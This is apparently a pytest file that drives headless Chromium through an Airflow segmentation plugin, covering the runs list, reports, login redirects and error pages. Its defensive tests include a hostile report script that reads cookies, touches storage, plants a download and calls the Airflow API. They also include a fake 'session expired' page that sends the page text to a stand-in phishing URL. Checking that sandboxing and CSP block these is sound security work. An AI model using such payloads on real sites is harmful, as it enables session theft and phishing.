"""A person's path, in headless Chromium: the Airflow UI's "Segments" entry, the runs, a report.

Needs Debian's chromium at /usr/bin/chromium (.ci/run installs it) and Playwright pointed at it; without
them the test skips, except under CI=true where it must run. Screenshots go to test-output/screenshots/.
"""

from __future__ import annotations

import re
import shutil
import uuid
from pathlib import Path
from urllib.parse import urlencode

import pytest

from devtools.synthetic_run import build_report, synthetic_run
from include.segmentation import results as results_module
from include.segmentation_aws.published_runs import run_summary
from tests.support.airflow_db import record_publication
from tests.support.api_server import api_token, running_api_server
from tests.support.browser import CHROMIUM, CHROMIUM_ARGS
from tests.support.browser import sync_playwright_or_skip as _browser_or_skip
from tests.support.paths import PROJECT_ROOT
from tests.support.published_files import publish_files, trained_run, unchanged_run

pytestmark = pytest.mark.slow
SCREENSHOTS = PROJECT_ROOT / "test-output" / "screenshots"
# Playwright's wait for a page, click or element (its default is 30 s): a guard against a hang, not a measure. The
# api-server answered a view's first request in up to 17 s with two test workers and other work on two cores.
PAGE_TIMEOUT_MS = 90_000


@pytest.fixture
def published_report(airflow_db, clients) -> tuple[str, int]:
    """One published run with a real report (synthetic data, as many counties as the real file): (run id, counties)."""
    s3 = clients["s3"]
    results = synthetic_run(3220, 4)
    html, plots = build_report(results)
    bucket, run_id = f"popseg-browser-{uuid.uuid4().hex[:8]}", "manual__2026-11-23T02:00:00+00:00"
    s3.create_bucket(Bucket=bucket)
    files = {"report.html": html.encode(), **plots, "segments.csv": results_module.csv_bytes(results.segments)}
    run = {**results.run, "run_id": run_id, "input_is_bundled_sample": True}  # synthetic data, as the sample is
    record_publication(publish_files(s3, run, f"s3://{bucket}/segmentation/runs/{run_id}/", files))
    return run_id, len(results.segments)


def _signed_in(browser, base: str, user: str = "viewer"):
    """A browser page carrying the Airflow UI's session cookie for `user` (not an admin)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(PAGE_TIMEOUT_MS)
    context.add_cookies([{"name": "_token", "value": api_token(base, user), "url": base}])
    return context.new_page()


def test_from_the_airflow_ui_through_the_segmentation_view_to_a_rendered_report(
    airflow_db, aws_env, published_report, tmp_path
) -> None:
    sync_playwright = _browser_or_skip()
    run_id, counties = published_report
    shutil.rmtree(SCREENSHOTS, ignore_errors=True)
    SCREENSHOTS.mkdir(parents=True)
    with (
        running_api_server(aws_env, tmp_path) as base,
        sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        page = _signed_in(browser, base)

        page.goto(f"{base}/")
        page.get_by_text("Segments", exact=True).first.wait_for(timeout=60_000)
        icon = "Array.from(document.images).some(i => i.src.startsWith('data:image/svg+xml') && i.naturalWidth > 0)"
        assert page.evaluate(icon), "the nav entry shows its own icon"
        page.screenshot(path=SCREENSHOTS / "1-airflow-ui-nav.png")

        page.goto(f"{base}/segmentation/")
        page.locator("#runs").wait_for()
        assert run_id in page.locator("#runs").inner_text()
        page.screenshot(path=SCREENSHOTS / "2-segmentation-runs.png", full_page=True)

        page.get_by_role("link", name=run_id, exact=True).click()  # not a run whose id starts with it
        # The run's page: its segments.csv link above the report, which is in a sandboxed frame.
        report = page.frame_locator("#report")
        report.locator("#kmeans").wait_for()
        frame = page.frame(url=re.compile(r"/report\.html$"))
        images = report.locator("img")
        assert images.count() >= 10
        rendered = frame.evaluate("Array.from(document.images).every(i => i.complete && i.naturalWidth > 0)")
        assert rendered, "every plot in the report is decoded and drawn"
        page.screenshot(path=SCREENSHOTS / "3-report-top.png")
        report.locator("#kmeans").evaluate("section => section.scrollIntoView()")
        page.screenshot(path=SCREENSHOTS / "4-report-segments.png")

        assert report.locator("#shown").inner_text() == f"{counties:,} of {counties:,} counties"
        report.locator("#filter").fill("segment-that-does-not-exist")
        assert report.locator("#shown").inner_text() == f"0 of {counties:,} counties"
        report.locator("#filter").fill("")
        report.locator("#segment-filter").select_option("0")  # an exact segment, not every row with a 0 in it
        in_segment_0 = int(report.locator("#shown").inner_text().split()[0].replace(",", ""))
        assert 0 < in_segment_0 < counties
        report.locator("#segment-filter").select_option("")
        report.locator("#county-table th", has_text="distance").click()
        report.locator("#county-table th", has_text="distance").click()  # descending
        first, second = (
            float(report.locator("#county-table tbody tr").nth(i).locator("td").nth(2).inner_text()) for i in (0, 1)
        )
        assert first >= second
        report.locator("#counties").scroll_into_view_if_needed()
        page.screenshot(path=SCREENSHOTS / "5-report-counties-sorted.png")
        # The full data: the run page's link (outside the report's sandbox) downloads the run's segments.csv.
        assert report.locator("#full-data a, a#full-data").count() == 0  # the report names it, links nothing
        with page.expect_download() as download:
            page.locator("#segments-csv").click()
        assert download.value.suggested_filename == "segments.csv"
        lines = Path(download.value.path()).read_text().splitlines()
        assert lines[0].startswith("State-County,segment,distance,c_1") and len(lines) == counties + 1

        counties_drawn = report.locator("#segment-map #map-counties path[data-segment]")
        # Puerto Rico's 78 municipios and three Virginia cities (a point at 1:10M) have no shape; the page says so.
        assert counties_drawn.count() == counties - 81
        assert "81 without a shape" in report.locator("#map").inner_text()
        report.locator("#map").scroll_into_view_if_needed()
        assert report.locator("#segment-map").bounding_box()["width"] > 900  # drawn at page width
        county = counties_drawn.nth(1000)
        county.hover()
        assert county.evaluate("p => getComputedStyle(p).stroke") == "rgb(0, 0, 0)"  # the hovered county stands out
        assert county.locator("title").text_content().count(" — ") == 2  # "County, State — segment N: … — distance d"
        page.screenshot(path=SCREENSHOTS / "6-report-map.png")
        browser.close()


# Script acting as the Airflow user who opens the report: what a report planted by whoever can write the results
# bucket would run, or our own report if a bug let script into it.
HOSTILE_REPORT = """<!doctype html><html><body><pre id="out">script did not run</pre><script>
const out = document.getElementById("out");
const say = (line) => { out.textContent += "\\n" + line; };
out.textContent = "script ran";
try { say("cookie:" + document.cookie); } catch (e) { say("cookie blocked"); }
try { localStorage.setItem("x", "1"); say("storage open"); } catch (e) { say("storage blocked"); }
const save = document.createElement("a");
save.href = "data:text/csv,planted"; save.download = "segments.csv"; document.body.appendChild(save); save.click();
fetch("/api/v2/dags", {credentials: "include"}).then(r => say("api " + r.status), () => say("api blocked"));
const img = new Image(); img.src = "/api/v2/dags?via=img"; document.body.appendChild(img);
</script></body></html>"""
# Phishing inside the Airflow UI: the report's frame sent away, with the page's text, to a page of its own.
PHISHING = "http://127.0.0.1:9/login"
NAVIGATING_REPORT = f"""<!doctype html><html><body><p>Session expired, sign in again</p><script>
location.href = "{PHISHING}?text=" + encodeURIComponent(document.body.innerText);
</script></body></html>"""
RUN = {"rows": 3, "n_components": 1, "explained_variance": 0.9, "params": {"k": 2}, "input": "s3://popseg/census/c.csv"}


def _publish_report(s3, run_id: str, report: str) -> str:
    """A run that published `report` (its digest recorded): its results URI."""
    bucket = f"popseg-hostile-{uuid.uuid4().hex[:8]}"
    s3.create_bucket(Bucket=bucket)
    results = f"s3://{bucket}/segmentation/runs/{run_id}/"
    record_publication(publish_files(s3, {**RUN, "run_id": run_id}, results, {"report.html": report.encode()}))
    return results


@pytest.fixture
def planted_report(airflow_db, clients) -> str:
    """A run's report replaced in S3 after the run published it: the run id."""
    s3, run_id = clients["s3"], "manual__planted"
    bucket, prefix = _publish_report(s3, run_id, "<h1>the real report</h1>").removeprefix("s3://").split("/", 1)
    s3.put_object(Bucket=bucket, Key=prefix + "report.html", Body=NAVIGATING_REPORT.encode())
    return run_id


def _watched(page) -> dict[str, list]:
    """What the page does that a report must not: requests leaving for PHISHING, downloads, Airflow API calls."""
    seen = {"phishing": [], "downloads": [], "api reached": [], "api blocked": []}
    page.on("request", lambda request: request.url.startswith(PHISHING) and seen["phishing"].append(request.url))
    page.on("download", lambda download: seen["downloads"].append(download.suggested_filename))
    page.on("requestfinished", lambda request: "/api/" in request.url and seen["api reached"].append(request.url))
    page.on("requestfailed", lambda request: "/api/" in request.url and seen["api blocked"].append(request.failure))
    return seen


def test_a_report_changed_in_s3_after_publishing_is_refused_with_its_reason(
    airflow_db, aws_env, planted_report, tmp_path
) -> None:
    sync_playwright = _browser_or_skip()
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        page = _signed_in(browser, base)
        seen = _watched(page)
        page_url = f"{base}/segmentation/runs/{planted_report}/report"
        answer = page.goto(page_url)
        refused = page.locator("#detail").inner_text()
        frames = page.locator("iframe").count()
        page.screenshot(path=SCREENSHOTS / "7-planted-report-refused.png")
        # Opened directly, the report's own address answers the refusal too: nothing runs, nothing redirects.
        direct = page.goto(f"{base}/segmentation/runs/{planted_report}/report.html")
        direct_text, direct_url = page.locator("body").inner_text(), page.url
        page.wait_for_timeout(500)  # a script that ran would have navigated by now
        browser.close()
    assert answer.status == 409 and frames == 0
    assert f"report.html of run {planted_report} is not the file the run published" in refused
    assert direct.status == 409 and "is not the file the run published" in direct_text
    assert direct_url.endswith("/report.html") and seen["phishing"] == [] and seen["downloads"] == []


@pytest.fixture
def hostile_report(airflow_db, clients) -> str:
    run_id = "manual__hostile_script"
    _publish_report(clients["s3"], run_id, HOSTILE_REPORT)
    return run_id


def test_a_report_with_script_runs_sandboxed_without_the_airflow_api_or_downloads(
    airflow_db, aws_env, hostile_report, tmp_path
) -> None:
    sync_playwright = _browser_or_skip()
    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        page = _signed_in(browser, base)
        seen = _watched(page)
        page.goto(f"{base}/segmentation/runs/{hostile_report}/report")
        report = page.frame_locator("#report")
        report.locator("#out").wait_for()
        frame = page.frame(url=re.compile(r"/report\.html$"))
        frame.wait_for_function("document.getElementById('out').textContent.includes('api ')", timeout=20_000)
        outcome = report.locator("#out").inner_text().splitlines()
        # Opened directly, only the report's own CSP sandbox applies (the run page's frame adds its own).
        page.goto(f"{base}/segmentation/runs/{hostile_report}/report.html")
        page.wait_for_function("document.getElementById('out').textContent.includes('api ')", timeout=20_000)
        direct = page.locator("#out").inner_text().splitlines()
        page.wait_for_timeout(500)  # time for a download to start, had it been allowed
        browser.close()
    # The script ran (the report's own sorting and filtering need that), in an opaque origin off the network.
    assert outcome == direct == ["script ran", "cookie blocked", "storage blocked", "api blocked"], (outcome, direct)
    assert seen["api reached"] == [] and seen["api blocked"] == ["csp", "csp"], seen  # each <img>, stopped by the CSP
    assert seen["downloads"] == []  # no download without a click: the sandbox has no allow-downloads


@pytest.fixture
def navigating_report(airflow_db, clients) -> str:
    run_id = "manual__navigating"
    _publish_report(clients["s3"], run_id, NAVIGATING_REPORT)
    return run_id


def test_a_report_cannot_send_its_frame_to_another_site(airflow_db, aws_env, navigating_report, tmp_path) -> None:
    sync_playwright = _browser_or_skip()
    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        page = _signed_in(browser, base)
        seen = _watched(page)
        violations = []
        page.on("console", lambda message: "frame-src" in message.text and violations.append(message.text))
        page.goto(f"{base}/segmentation/runs/{navigating_report}/report")
        page.wait_for_timeout(2_000)  # the script navigates as soon as it runs
        frame_urls = [frame.url for frame in page.frames]
        browser.close()
    # The run page's frame-src 'self' stops the navigation before any request leaves for the other site.
    assert seen["phishing"] == [] and not any(url.startswith(PHISHING) for url in frame_urls), frame_urls
    assert violations, "the browser reports the blocked navigation as a frame-src violation"


# The widths the pages are read at (a laptop, a desktop), each at 1× and 2× device pixels.
SIZES = [(1280, 900, 1), (1280, 900, 2), (1920, 1080, 1), (1920, 1080, 2)]
NO_SIDEWAYS_SCROLL = "document.scrollingElement.scrollWidth <= window.innerWidth"


def _contexts(browser, base: str, user: str | None = "viewer"):
    """(name, browser context) at each of SIZES, with the session cookie of `user` (None: not logged in)."""
    token = api_token(base, user) if user else None
    for width, height, scale in SIZES:
        context = browser.new_context(viewport={"width": width, "height": height}, device_scale_factor=scale)
        context.set_default_timeout(PAGE_TIMEOUT_MS)
        if token:
            context.add_cookies([{"name": "_token", "value": token, "url": base}])
        yield f"{width}px-{scale}x", context


def test_a_browser_that_is_not_logged_in_logs_in_and_comes_back_to_the_report(
    airflow_db, aws_env, published_report, tmp_path
) -> None:
    sync_playwright = _browser_or_skip()
    run_id, _ = published_report
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        report_url = f"{base}/segmentation/runs/{run_id}/report"
        for size, context in _contexts(browser, base, user=None):
            page = context.new_page()
            page.goto(report_url)
            page.get_by_role("button", name="Sign in").wait_for()
            at_login = page.url
            page.screenshot(path=SCREENSHOTS / f"login-redirect-{size}.png")
            page.get_by_label("Username").fill("viewer")
            page.get_by_label("Password").fill("viewer")
            page.get_by_role("button", name="Sign in").click()
            page.wait_for_url(report_url)
            page.frame_locator("#report").locator("#kmeans").wait_for()
            context.close()
            assert at_login == f"{base}/auth/login?{urlencode({'next': report_url.removeprefix(base)})}", size
        browser.close()


@pytest.fixture
def gone_report(airflow_db, clients) -> str:
    """A run whose report was deleted from S3 after the run published it: the run id."""
    s3, run_id = clients["s3"], "manual__gone"
    bucket, prefix = _publish_report(s3, run_id, "<h1>a report</h1>").removeprefix("s3://").split("/", 1)
    s3.delete_object(Bucket=bucket, Key=prefix + "report.html")
    return run_id


def test_error_pages_say_what_happened_and_what_to_do_at_each_width(
    airflow_db, aws_env, gone_report, planted_report, tmp_path
) -> None:
    sync_playwright = _browser_or_skip()
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    errors = [  # (user, route, status, heading, screenshot name)
        ("viewer", f"/runs/{gone_report}/report", 404, "The results of this run are no longer in S3", "gone"),
        ("viewer", f"/runs/{planted_report}/report", 409, "This file is not the one the run published", "changed"),
        ("viewer", "/runs/manual__never_published/report", 404, "Nothing published to show", "not-published"),
        ("viewer", "/runs/not%20a%20run/report", 404, "No such run", "no-such-run"),
        ("viewer", "/no-such-page", 404, "Page not found", "not-found"),
        ("nobody", "/", 403, "You may not see the segmentation results", "no-access"),
    ]
    seen = []
    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        for user in ("viewer", "nobody"):
            for size, context in _contexts(browser, base, user):
                page = context.new_page()
                for _, route, _, _, name in (error for error in errors if error[0] == user):
                    answer = page.goto(f"{base}/segmentation{route}")
                    page.screenshot(path=SCREENSHOTS / f"error-{name}-{size}.png", full_page=True)
                    seen.append(
                        (
                            route,
                            size,
                            answer.status,
                            page.locator("h1").inner_text(),
                            page.get_by_role("link", name="Back to the list of runs").is_visible(),
                            page.evaluate(NO_SIDEWAYS_SCROLL),
                        )
                    )
                context.close()
        browser.close()
    expected = [
        (route, size, status, heading, True, True)
        for user in ("viewer", "nobody")
        for size in (f"{width}px-{scale}x" for width, _, scale in SIZES)
        for who, route, status, heading, _ in errors
        if who == user
    ]
    assert seen == expected


def test_the_runs_list_and_a_run_page_read_whole_at_each_width(
    airflow_db, aws_env, published_report, gone_report, tmp_path
) -> None:
    sync_playwright = _browser_or_skip()
    run_id, _ = published_report
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        for size, context in _contexts(browser, base):
            page = context.new_page()
            page.goto(f"{base}/plugin/segmentation")  # the list as the nav's "Segments" shows it, in Airflow's frame
            view = page.frame_locator("iframe[title='Segments']")
            link = view.get_by_role("link", name=run_id, exact=True).first  # the newest publication of it
            link.wait_for(timeout=60_000)
            # The run id on one line (it used to break inside: one box per line), and the list within the frame.
            assert link.evaluate("a => a.getClientRects().length") == 1, size
            assert link.evaluate(f"() => {NO_SIDEWAYS_SCROLL}"), size
            # Which input each run read (other tests of the session publish this run id too: any of its rows).
            rows = view.locator("tr").filter(has=view.get_by_role("link", name=run_id, exact=True)).all_inner_texts()
            assert any("bundled synthetic sample" in row for row in rows), size
            page.screenshot(path=SCREENSHOTS / f"list-{size}.png")
            link.click()
            view.frame_locator("#report").locator("#kmeans").wait_for()
            page.screenshot(path=SCREENSHOTS / f"run-page-{size}.png")
            context.close()
        # In the details panel of Airflow's run page (≈ 340 px at 1280) the run page says how to get it wider.
        context = browser.new_context(viewport={"width": 340, "height": 800})
        context.set_default_timeout(PAGE_TIMEOUT_MS)
        context.add_cookies([{"name": "_token", "value": api_token(base, "viewer"), "url": base}])
        page = context.new_page()
        page.goto(f"{base}/segmentation/runs/{run_id}/report")
        narrow_hint = page.locator("#narrow").is_visible()
        page.screenshot(path=SCREENSHOTS / "run-page-340px.png")
        browser.close()
    assert narrow_hint


# A week of nightly runs as the list shows them, oldest first: a first run, a night with nothing new, a run on a new
# census file, a run the churn gate held, and a night unchanged since the last run that was not held.
FIRST, SAME, NEW_DATA, HELD, SAME_AGAIN = (
    "scheduled__2026-12-01T02:00:00+00:00",
    "scheduled__2026-12-02T02:00:00+00:00",
    "manual__2026-12-02T09:30:00+00:00",
    "scheduled__2026-12-03T02:00:00+00:00",
    "scheduled__2026-12-04T02:00:00+00:00",
)
GATE_REFUSAL = (
    "churn 52.0 % (1,673 of 3,218 shared counties changed segment) is above max_churn 40.0 %: latest.json still "
    "names manual__2026-12-02T09:30:00+00:00. Review this run's report, then re-run with a higher max_churn to "
    "accept it"
)


@pytest.fixture
def nightly_runs(airflow_db, clients) -> None:
    """FIRST … SAME_AGAIN recorded as the DAG records them, those that trained with a report in S3."""
    s3, bucket = clients["s3"], f"popseg-nightly-{uuid.uuid4().hex[:8]}"
    s3.create_bucket(Bucket=bucket)
    census = {"rows": 3218, "n_components": 7, "explained_variance": 0.8017, "params": {"k": 8},
              "input": "s3://popseg/census/acs2015_county_data.csv"}  # fmt: skip
    new_census = {**census, "rows": 3220, "explained_variance": 0.8102, "input": "s3://popseg/census/acs2016.csv"}

    def trained(run_id: str, document: dict) -> None:
        report = f"<!doctype html><h1 id='kmeans'>Report of {run_id}</h1>".encode()
        results = f"s3://{bucket}/segmentation/runs/{run_id}/"
        record_publication(publish_files(s3, {**document, "run_id": run_id}, results, {"report.html": report}))

    def unchanged(run_id: str, document: dict, since: str) -> None:
        summary = run_summary(unchanged_run(document, run_id, since), f"s3://{bucket}/segmentation/runs/{run_id}/", {})
        record_publication(summary, task_id="record_unchanged")

    trained(FIRST, trained_run(census))
    unchanged(SAME, census, since=FIRST)
    priced = {"total": 0.0412, "priced_total": 0.0412, "items": [{"usd": 0.0412}], "no_price": []}
    trained(NEW_DATA, {**trained_run(new_census, previous_run=FIRST, churn=0.123), "cost": priced})
    trained(
        HELD, trained_run({**new_census, "params": {"k": 9}}, previous_run=NEW_DATA, churn=0.52, refusal=GATE_REFUSAL)
    )
    unchanged(SAME_AGAIN, new_census, since=NEW_DATA)


def _row(view, run_id: str):
    """The run's row of the list (its first cell names it; an unchanged run's state names another run)."""
    return view.locator("#runs tr").filter(has=view.locator("td:first-child", has_text=run_id)).first


def _cells(view, run_id: str) -> dict[str, str]:
    """The run's row of the list, heading -> text."""
    headings = view.locator("#runs th").all_inner_texts()
    cells = _row(view, run_id).locator("td").all_inner_texts()
    return dict(zip(headings, (text.replace("\xa0", " ") for text in cells), strict=True))


def test_the_runs_list_reads_as_a_trend_with_churn_held_and_unchanged_runs(
    airflow_db, aws_env, nightly_runs, tmp_path
) -> None:
    sync_playwright = _browser_or_skip()
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with running_api_server(aws_env, tmp_path) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        for size, context in _contexts(browser, base):
            page = context.new_page()
            page.goto(f"{base}/segmentation/")
            page.locator("#runs").wait_for()
            page.screenshot(path=SCREENSHOTS / f"trend-{size}.png", full_page=True)
            context.close()
        page = _signed_in(browser, base)
        page.goto(f"{base}/segmentation/")
        listed = [text.split("\t")[0] for text in page.locator("#runs tr").all_inner_texts()]
        order = [run_id for run_id in listed if run_id in (FIRST, SAME, NEW_DATA, HELD, SAME_AGAIN)]
        rows = {run_id: _cells(page, run_id) for run_id in (FIRST, SAME, NEW_DATA, HELD, SAME_AGAIN)}
        churn_title = _row(page, NEW_DATA).locator(".churn").get_attribute("title")
        held_reason = _row(page, HELD).locator(".state").get_attribute("title")
        # A held run published its report under runs/: it opens, saying it is not the latest.
        page.get_by_role("link", name=HELD, exact=True).click()
        page.frame_locator("#report").locator("#kmeans").wait_for()
        held_note = page.locator("#held b").inner_text(), page.locator("#held-reason").inner_text()
        page.screenshot(path=SCREENSHOTS / "trend-held-run-page.png")
        # An unchanged run links the run whose results stand.
        page.goto(f"{base}/segmentation/")
        _row(page, SAME_AGAIN).get_by_role("link", name=NEW_DATA).click()
        page.frame_locator("#report").locator("#kmeans").wait_for()
        standing_url = page.url
        # Its own address (the run page's "Report" tab) says so, and serves no file under its id.
        answer = page.goto(f"{base}/segmentation/runs/{SAME_AGAIN}/report")
        unchanged_heading, unchanged_frames = page.locator("h1").inner_text(), page.locator("iframe").count()
        page.screenshot(path=SCREENSHOTS / "trend-unchanged-run-page.png")
        page.locator("#standing").click()
        page.frame_locator("#report").locator("#kmeans").wait_for()
        from_unchanged_page = page.url
        refused = page.goto(f"{base}/segmentation/runs/{SAME_AGAIN}/report.html")
        instead = page.locator("#instead").get_attribute("href")
        page.screenshot(path=SCREENSHOTS / "trend-unchanged-report-html.png")
        browser.close()
    assert order == [SAME_AGAIN, HELD, NEW_DATA, SAME, FIRST]  # newest first
    shown = {heading: text for heading, text in rows[NEW_DATA].items() if heading not in ("date (UTC)", "results")}
    assert shown == {
        "run": NEW_DATA, "input": "s3://popseg/census/acs2016.csv", "counties": "3,220", "k": "8", "components": "7",
        "variance kept": "0.8102", "churn": "12.3 %", "cost": "$0.0412", "state": "published",
    }  # fmt: skip
    assert rows[FIRST]["cost"] == "—"  # recorded before costs were estimated
    assert churn_title == f"12.3% of shared counties changed segment since run {FIRST}; adjusted Rand index 0.877"
    assert rows[FIRST]["churn"] == "—" and rows[FIRST]["state"] == "published"
    assert (rows[HELD]["churn"], rows[HELD]["k"]) == ("52.0 %", "9")
    assert rows[HELD]["state"] == "held: churn above the gate — latest.json not moved" and held_reason == GATE_REFUSAL
    assert held_note == ("Held by the churn gate: latest.json not moved", GATE_REFUSAL)
    assert (
        rows[SAME_AGAIN]["state"] == f"unchanged since {NEW_DATA}" and rows[SAME]["state"] == f"unchanged since {FIRST}"
    )
    assert (rows[SAME_AGAIN]["churn"], rows[SAME_AGAIN]["counties"]) == ("—", "3,220")  # the figures that stand
    assert standing_url == from_unchanged_page == f"{base}/segmentation/runs/{NEW_DATA}/report"
    assert (answer.status, unchanged_heading, unchanged_frames) == (200, "Nothing changed: this run trained nothing", 0)
    assert refused.status == 404 and instead == f"/segmentation/runs/{NEW_DATA}/report"
